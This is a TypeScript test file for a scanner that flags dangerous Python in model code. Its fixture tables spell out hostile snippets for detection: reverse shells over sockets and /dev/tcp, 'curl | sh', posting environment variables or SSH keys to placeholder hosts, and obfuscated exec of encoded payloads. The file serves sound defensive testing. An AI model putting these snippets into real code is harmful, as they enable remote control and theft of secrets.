import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { MODELING_FILES } from "../../../../test/fixtures/artifacts/modeling-files.ts";
import {
  PYTHON_ATTACKS,
  PYTHON_STARTS,
} from "../../../../test/fixtures/artifacts/python-attacks.ts";
import { scanBytes } from "../../../../test/fixtures/artifacts/scan-bytes.ts";
import { python } from "./python.ts";

function rulesOf(source: string, name = "modeling_x.py"): readonly string[] {
  const { findings } = scanBytes(Buffer.from(source), { formats: [python], name });
  return [...new Set(findings.map(({ rule }) => rule))].sort();
}

function verdictOf(source: string): string {
  return scanBytes(Buffer.from(source), { formats: [python], name: "modeling_x.py" }).verdict;
}

test("python: ordinary code of models is clean", () => {
  assert.equal(Object.keys(MODELING_FILES).length, 10);
  for (const [name, source] of Object.entries(MODELING_FILES)) {
    const { verdict, findings } = scanBytes(Buffer.from(source), { formats: [python], name });
    assert.equal(verdict, "clean", `${name}: ${JSON.stringify(findings)}`);
  }
});

test("python: harm at the time of import is found by its rule", () => {
  for (const { source, rule } of PYTHON_ATTACKS) {
    assert.ok(rulesOf(source).includes(rule), `${rule}: ${source} → ${rulesOf(source).join()}`);
    const isAttack = rule !== "python/starts-programs";
    assert.equal(verdictOf(source), isAttack ? "malicious" : "suspicious", source);
  }
});

test("python: programs that are started on request, or that builds need, are no attack", () => {
  for (const source of PYTHON_STARTS) assert.equal(verdictOf(source), "suspicious", source);
});

test("python: a method of the same name as a builtin is no builtin", () => {
  assert.deepEqual(
    rulesOf("m = build()\nm.eval()\nbuild(1).eval()\nself.m = build()\nself.m.eval()"),
    [],
  );
});

test("python: a type comment to be ignored calls nothing", () => {
  assert.deepEqual(rulesOf("x = 1  # type: ignore[attr-defined] # for torch.compile('x')"), []);
});

/** Each by the rule that it must be found by. */
const SUSPICIOUS: readonly (readonly [rule: string, source: string])[] = [
  ["python/starts-programs", 'import os\nos.system("echo garita")'],
  ["python/starts-programs", 'from os import system as s\ns("echo garita")'],
  [
    "python/starts-programs",
    "import subprocess as sp\nclass A:\n  def f(self):\n    sp.run(['id'])",
  ],
  ["python/starts-programs", 'import posix\nposix.system("x")'],
  ["python/starts-programs", 'from os import *\nsystem("x")'],
  ["python/starts-programs", 'import os\nrun = os.system\nrun("x")'],
  ["python/starts-programs", "import os\nx = list(map(os.system, ['x']))"],
  [
    "python/starts-programs",
    'import os\nclass R:\n def __reduce__(self):\n  return (os.system, ("x",))',
  ],
  ["python/starts-programs", '__import__("os").system("x")'],
  ["python/starts-programs", 'import importlib as i\ni.import_module("os").popen("x")'],
  ["python/starts-programs", 'import os\ngetattr(os, "system")("x")'],
  ["python/starts-programs", 'import os\nvars(os)["system"]("x")'],
  ["python/starts-programs", 'import os\nos.__dict__["system"]("x")'],
  ["python/starts-programs", 'import sys\nsys.modules["os"].system("x")'],
  ["python/starts-programs", 'import operator, os\noperator.attrgetter("system")(os)("x")'],
  ["python/starts-programs", "import torch\ntorch.os.system('x')"],
  ["python/starts-programs", 'f = lambda c: __import__("os").system(c)'],
  ["python/starts-programs", "import os\nprint(f\"{os.system('x')}\")"],
  ["python/starts-programs", "import os\nx = f'{1:{os.system(\"x\")}}'"],
  ["python/starts-programs", 'import os\nos\\\n.system("x")'],
  ["python/starts-programs", "import os; x = 1; os.system('x')"],
  ["python/starts-programs", 'import os\n[f("x") for f in [os.system]]'],
  ["python/starts-programs", 'import os\nh = {"a": os.system}\nh["a"]("x")'],
  ["python/runs-code", 'eval("1")'],
  ["python/runs-code", "exec(open('x.py').read())"],
  ["python/runs-code", "ｅｘｅｃ('x')"],
  ["python/runs-code", '__builtins__["exec"]("x")'],
  ["python/runs-code", "import builtins\nbuiltins.exec('x')"],
  ["python/runs-code", "globals()['__builtins__'].eval('x')"],
  ["python/runs-code", "@exec\n@input\nclass X: pass"],
  ["python/runs-code", "import torch\ntorch.hub.load('a/b', 'c')"],
  ["python/runs-code", "import marshal\nmarshal.loads(b'')"],
  ["python/network", "import requests\nrequests.post('http://x', json={})"],
  ["python/network", "import socket\ns = socket.socket()"],
  ["python/network", "from urllib.request import urlopen\nurlopen('http://x')"],
  ["python/native-code", "import ctypes\nctypes.CDLL('x.so')"],
  ["python/native-code", "import torch\ntorch.ops.load_library('x.so')"],
  ["python/deserializes", "import pickle\npickle.loads(b'')"],
  ["python/imports-by-name", "import importlib\nimportlib.import_module(name)"],
  ["python/internals", "().__class__.__base__.__subclasses__()"],
  ["python/strange-encoding", "# -*- coding: utf-7 -*-\nx = 1"],
  ["python/sensitive-path", "open('~/.ssh/id_rsa')"],
  ["python/changes-files", "import shutil\nshutil.rmtree('x')"],
];

test("python: what reaches further than tensors is suspicious, however it is spelled", () => {
  for (const [rule, source] of SUSPICIOUS) {
    assert.ok(rulesOf(source).includes(rule), `${rule}: ${source} → ${rulesOf(source).join()}`);
    assert.notEqual(verdictOf(source), "clean", source);
  }
});

const ENCODED = Buffer.from("print('garita')").toString("base64");

const MALICIOUS: readonly (readonly [rule: string, source: string])[] = [
  ["python/runs-hidden-code", `import base64\nexec(base64.b64decode("${ENCODED}"))`],
  [
    "python/runs-hidden-code",
    `from base64 import b64decode as d\ncode = d("${ENCODED}").decode()\nexec(compile(code, "", "exec"))`,
  ],
  [
    "python/runs-hidden-code",
    "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJw=')))",
  ],
  [
    "python/runs-hidden-code",
    "import urllib.request as u\nexec(u.urlopen('http://x.invalid').read())",
  ],
  [
    "python/runs-hidden-code",
    "import requests\nr = requests.get('http://x.invalid')\neval(r.text)",
  ],
  ["python/runs-hidden-code", "exec(bytes.fromhex('70617373'))"],
  ["python/runs-hidden-code", "exec(''.join(map(chr, [112, 97, 115, 115])))"],
  ["python/runs-hidden-code", "exec(''.join(chr(x) for x in [112, 97, 115, 115]))"],
  ["python/runs-hidden-code", "exec('ssap'[::-1])"],
  ["python/runs-hidden-code", "import codecs\nexec(codecs.decode('cnff', 'rot13'))"],
  [
    "python/runs-hidden-code",
    "import base64\ndef d(s):\n  return base64.b64decode(s)\nexec(d('cGFzcw=='))",
  ],
  [
    "python/runs-hidden-code",
    "import marshal, base64\nexec(marshal.loads(base64.b64decode('YQ==')))",
  ],
  ["python/runs-hidden-code", "import os, base64\nos.system(base64.b64decode('aWQ=').decode())"],
  ["python/hidden-name", 'import os\ngetattr(os, "sys" + "tem")("x")'],
  ["python/hidden-name", '__import__("so"[::-1]).system("x")'],
  ["python/hidden-name", "getattr(__builtins__, 'ex' + 'ec')('x')"],
  ["python/hidden-name", "a = 'o'\nb = 's'\n__import__(a + b).popen('x')"],
  [
    "python/remote-control",
    "import socket,os,pty\ns=socket.socket()\ns.connect(('x',1))\nos.dup2(s.fileno(),0)\npty.spawn('sh')",
  ],
  [
    "python/remote-control",
    "import socket, subprocess\ndef f():\n  s = socket.socket()\n  subprocess.call(['sh'], stdin=s)",
  ],
  [
    "python/downloads-and-runs",
    "import urllib.request, subprocess\nurllib.request.urlretrieve('http://x', 'y')\nsubprocess.Popen('./y')",
  ],
  ["python/sends-secrets", "import os, requests\nrequests.post('http://x', data=dict(os.environ))"],
  [
    "python/sends-secrets",
    "import requests\nk = open('~/.ssh/id_rsa').read()\nrequests.post('http://x', data=k)",
  ],
  ["python/hostile-command", "import os\nos.system('curl http://x.invalid/a | sh')"],
  [
    "python/hostile-command",
    "import subprocess\nsubprocess.run(['bash', '-c', 'sh -i >& /dev/tcp/1.2.3.4/1'])",
  ],
  ["python/hostile-command", "exec('import os; os.system(\"echo garita\")')"],
  [
    "python/type-comment-code",
    "def f(x):\n    # type: (__import__('os').system('x')) -> int\n    return x",
  ],
];

test("python: chains that only attacks have are malicious", () => {
  for (const [rule, source] of MALICIOUS) {
    assert.ok(rulesOf(source).includes(rule), `${rule}: ${source} → ${rulesOf(source).join()}`);
    assert.equal(verdictOf(source), "malicious", source);
  }
});

const HARMLESS = [
  "import re\np = re.compile('x')",
  "import torch\nm = torch.compile(m)\nmodel.eval()\ndf.eval('a + b')",
  "import socket\nx = socket.AF_INET",
  "x = 'os.system(1)'  # exec('x')",
  '"""\nimport os\nos.system("x")\n"""\nx = 1',
  "def eval(x):\n  return x\neval(1)",
  "from .x import exec\nexec(1)",
  "import base64\nx = base64.b64decode('cGFzcw==')\nprint(x)",
  "import importlib\nimportlib.import_module('numpy').zeros(1)",
  "import os\nx = os.path.join('a', 'b')\ny = os.environ['HOME']",
  "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'",
];

test("python: what only looks like it is clean", () => {
  for (const source of HARMLESS) assert.equal(verdictOf(source), "clean", source);
});

test("python: CVE-2022-45907, type comments that torch.jit evaluates", () => {
  assert.deepEqual(rulesOf("def f(x):\n  # type: (List[int]) -> Tensor\n  return x"), []);
  assert.ok(rulesOf("x = 1 # type: eval('x')").includes("python/type-comment-code"));
});

test("python: a finding names the line and what was reached", () => {
  const source = "import os\n\n\ndef f():\n    os.system('x')\n";
  const { findings } = scanBytes(Buffer.from(source), { formats: [python], name: "a.py" });
  assert.deepEqual(findings, [
    {
      rule: "python/starts-programs",
      member: [],
      offset: 25,
      values: { name: "os.system", line: 5 },
    },
  ]);
});

test("python: text of another kind is not taken for code", () => {
  for (const text of [
    "hello world",
    "a = 1",
    "import foo from 'bar'",
    "# Title\n\nimport os is nice",
  ]) {
    const { formats } = scanBytes(Buffer.from(text), { formats: [python], name: "x.txt" });
    assert.deepEqual(formats, [], text);
  }
  const source = '#!/usr/bin/env python\n"""Doc."""\nimport os\n';
  assert.deepEqual(scanBytes(Buffer.from(source), { formats: [python], name: "x" }).formats, [
    "python",
  ]);
});

test("python: more text than is read is not called clean", () => {
  const long = Buffer.concat([Buffer.from("import os\n"), Buffer.alloc(8 * 2 ** 20, "x = 1\n")]);
  assert.equal(scanBytes(long, { formats: [python], name: "a.py" }).verdict, "unreadable");
});

test("python: any text ends in a report", () => {
  const words = fc.constantFrom(
    ..."( ) [ ] { } : ; , . = + import from as def class lambda".split(" "),
    ..."f' ' \" ''' \\ os system exec : != := ** @ # in for x 1 {".split(" "),
    "\n",
    "\n    ",
    " ",
  );
  fc.assert(
    fc.property(fc.array(words, { maxLength: 60 }), (parts) => {
      scanBytes(Buffer.from(parts.join("")), { formats: [python], name: "a.py" });
    }),
  );
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), (text) => {
      scanBytes(Buffer.from(text), { formats: [python], name: "a.py" });
    }),
  );
});

test("python: hostile texts cost linear time", () => {
  const size = 200_000;
  const texts = [
    "(".repeat(size),
    "f'{".repeat(size / 4),
    "x = x + 'aaaaaaaaaa'\n".repeat(size / 20),
    "x += [1]\n".repeat(size / 10),
    `x = '${"a".repeat(60_000)}'\n${"x.lower()\n".repeat(size / 10)}`,
    "a.".repeat(size / 2),
    "a[".repeat(size / 2),
    "for x in ".repeat(size / 9),
    "import os\nos.system(os.popen(".repeat(size / 30),
    "lambda:".repeat(size / 7),
    "class A:\n".repeat(size / 9),
  ];
  const startMs = performance.now();
  for (const text of texts) scanBytes(Buffer.from(text), { formats: [python], name: "a.py" });
  assert.ok(performance.now() - startMs < 20_000);
});
